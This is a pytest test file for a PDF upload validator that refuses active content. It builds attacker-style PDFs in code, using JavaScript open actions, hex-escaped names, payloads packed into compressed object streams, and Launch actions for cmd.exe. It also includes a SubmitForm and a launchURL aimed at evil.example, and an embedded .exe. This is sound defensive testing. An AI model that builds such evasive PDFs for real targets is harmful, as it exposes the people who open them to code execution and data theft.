"""A PDF attachment is parsed (pypdf) and refused if it carries active content: scripts,
programs to launch, embedded files, forms that run code or send data, or actions run
the moment it is opened, however its names are spelled or its objects packed.

Every PDF here is made by pypdf in the test, as an attacker would make it."""

import zlib
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from advocacy.uploads import IMAGES_AND_PDF, inspect


def written(writer):
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def one_page():
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    return writer


def accepted(data):
    return inspect(data, accept=IMAGES_AND_PDF, name="letter.pdf")


def refusal(data):
    with pytest.raises(ValidationError) as refused:
        accepted(data)
    error = refused.value
    return error.code, error.message % (error.params or {})


def action(kind, **entries):
    values = {NameObject("/S"): NameObject(kind)}
    for key, value in entries.items():
        values[NameObject(f"/{key}")] = value
    return DictionaryObject(values)


class EscapedName(NameObject):
    """A name written with its second letter as a `#xx` escape, e.g. /J#61vaScript: the
    same name to every PDF reader, other bytes in the file."""

    def write_to_stream(self, stream, encryption_key=None):
        stream.write(f"{self[:2]}#{ord(self[2]):02X}{self[3:]}".encode())


def with_object_stream(objects, root):
    """A PDF 1.5 whose objects (1..n) all sit in one compressed object stream, with a
    cross-reference stream: only a parser that unpacks them can see what they hold."""
    writer = PdfWriter()  # only to give the references a document
    bodies, offsets = [], []
    for obj in objects:
        out = BytesIO()
        obj.write_to_stream(out)
        bodies.append(out.getvalue())
    header, data = b"", b""
    for number, body in enumerate(bodies, start=1):
        header += f"{number} {len(data)} ".encode()
        data += body + b"\n"
    packed = zlib.compress(header + data)
    count = len(objects)
    stream_number, xref_number = count + 1, count + 2
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {stream_number: len(pdf)}
    pdf += (
        f"{stream_number} 0 obj\n<< /Type /ObjStm /N {count} /First {len(header)} "
        f"/Filter /FlateDecode /Length {len(packed)} >>\nstream\n"
    ).encode()
    pdf += packed + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(pdf)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"  # object 0, free
    for index in range(count):
        rows += b"\x02" + stream_number.to_bytes(4, "big") + index.to_bytes(2, "big")
    for number in (stream_number, xref_number):
        rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    pdf += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
        f"/Root {root} 0 R /Length {len(rows)} >>\nstream\n"
    ).encode()
    pdf += rows + b"\nendstream\nendobj\n"
    pdf += f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode()
    assert writer is not None
    return bytes(pdf)


def document(open_action, *, escaped=False):
    """Catalog, pages, one page, and the catalog's OpenAction (objects 1-4)."""
    ref = lambda n: IndirectObject(n, 0, None)  # noqa: E731
    catalog = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Catalog"),
            NameObject("/Pages"): ref(2),
            NameObject("/OpenAction"): ref(4),
        }
    )
    pages = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Pages"),
            NameObject("/Kids"): ArrayObject([ref(3)]),
            NameObject("/Count"): NumberObject(1),
        }
    )
    page = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Page"),
            NameObject("/Parent"): ref(2),
            NameObject("/MediaBox"): ArrayObject([NumberObject(n) for n in (0, 0, 612, 792)]),
        }
    )
    return [catalog, pages, page, open_action]


# Accepted


def test_an_ordinary_pdf_is_kept_byte_for_byte():
    writer = one_page()
    writer.add_metadata({"/Title": "Signed letter"})
    data = written(writer)
    assert accepted(data).content == data


def test_links_to_websites_and_pages_are_fine():
    writer = one_page()
    writer.add_blank_page(width=612, height=792)
    writer.add_uri(0, "https://example.org/report", [0, 0, 100, 100])
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/GoTo", D=ArrayObject([writer.pages[1].indirect_reference]))}
    )
    assert accepted(written(writer)).extension == "pdf"


def test_a_pdf_in_an_object_stream_without_active_content_is_fine():
    goto = action("/GoTo", D=ArrayObject([IndirectObject(3, 0, None), NameObject("/Fit")]))
    data = with_object_stream(document(goto), root=1)
    assert PdfReader(BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/GoTo"
    assert accepted(data).extension == "pdf"


def test_a_pdf_encrypted_with_an_empty_password_is_read_and_checked():
    writer = one_page()
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    assert accepted(written(writer)).extension == "pdf"

    writer = one_page()
    writer.add_open_action(JavaScript("app.alert('hidden');"))
    writer.encrypt(user_password="", owner_password="owner-secret", algorithm="RC4-128")
    assert refusal(written(writer))[0] == "pdf_active"


# Refused


def test_document_level_javascript_is_refused():
    writer = one_page()
    writer.add_open_action(JavaScript("app.alert('hello');"))
    code, message = refusal(written(writer))
    assert code == "pdf_active"
    assert "JavaScript" in message and "Print it to a new PDF" in message


def test_javascript_with_hex_escaped_names_is_refused():
    script = DictionaryObject(
        {
            NameObject("/S"): EscapedName("/JavaScript"),
            EscapedName("/JS"): TextStringObject("app.launchURL('https://evil.example');"),
        }
    )
    writer = one_page()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    data = written(writer)
    assert b"/J#61vaScript" in data and b"/J#53" in data
    assert b"JavaScript" not in data and b"/JS" not in data
    assert PdfReader(BytesIO(data)).trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    assert refusal(data)[0] == "pdf_active"


def test_javascript_in_a_compressed_object_stream_is_refused():
    script = action("/JavaScript", JS=TextStringObject("app.alert('packed');"))
    data = with_object_stream(document(script), root=1)
    assert b"JavaScript" not in data and b"/JS" not in data
    reader = PdfReader(BytesIO(data))
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
    code, message = refusal(data)
    assert code == "pdf_active" and "JavaScript" in message


def test_hex_escaped_names_in_an_object_stream_are_refused():
    launch = DictionaryObject(
        {
            NameObject("/S"): EscapedName("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    data = with_object_stream(document(launch), root=1)
    assert b"Launch" not in data  # compressed, and /L#61unch inside
    code, message = refusal(data)
    assert code == "pdf_active" and "starts a program" in message


def test_a_link_that_launches_a_program_is_refused():
    writer = one_page()
    writer.add_uri(0, "https://example.org/", [0, 0, 100, 100])
    link = writer.pages[0]["/Annots"][0].get_object()
    link[NameObject("/A")] = action("/Launch", F=TextStringObject("calc.exe"))
    assert refusal(written(writer))[0] == "pdf_active"


def test_a_page_action_running_script_is_refused():
    writer = one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS=TextStringObject("this.print();"))}
    )
    assert refusal(written(writer))[0] == "pdf_active"


def test_a_website_opened_by_itself_on_opening_is_refused():
    writer = one_page()
    writer._root_object[NameObject("/OpenAction")] = action(
        "/URI", URI=TextStringObject("https://tracker.example/opened")
    )
    code, message = refusal(written(writer))
    assert code == "pdf_active" and "when it is opened" in message


def test_an_embedded_file_is_refused():
    writer = one_page()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    code, message = refusal(written(writer))
    assert code == "pdf_active" and "embedded file" in message


def test_a_form_that_sends_its_data_away_is_refused():
    writer = one_page()
    writer.add_uri(0, "https://example.org/", [0, 0, 100, 100])
    link = writer.pages[0]["/Annots"][0].get_object()
    link[NameObject("/A")] = action("/SubmitForm", F=TextStringObject("https://evil.example/"))
    assert refusal(written(writer))[0] == "pdf_active"


def test_an_xfa_form_is_refused():
    writer = one_page()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp/>"),
        }
    )
    assert refusal(written(writer))[0] == "pdf_active"


def test_a_password_protected_pdf_is_refused():
    writer = one_page()
    writer.encrypt(user_password="secret", algorithm="RC4-128")
    code, message = refusal(written(writer))
    assert code == "pdf_encrypted" and "password" in message


def test_a_pdf_that_cannot_be_parsed_is_refused():
    data = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R >>\n" + b"\x00" * 300
    data += b"\nstartxref\n999999\n%%EOF\n"
    code, message = refusal(data)
    assert code == "pdf_unreadable"
    assert "could not be read" in message
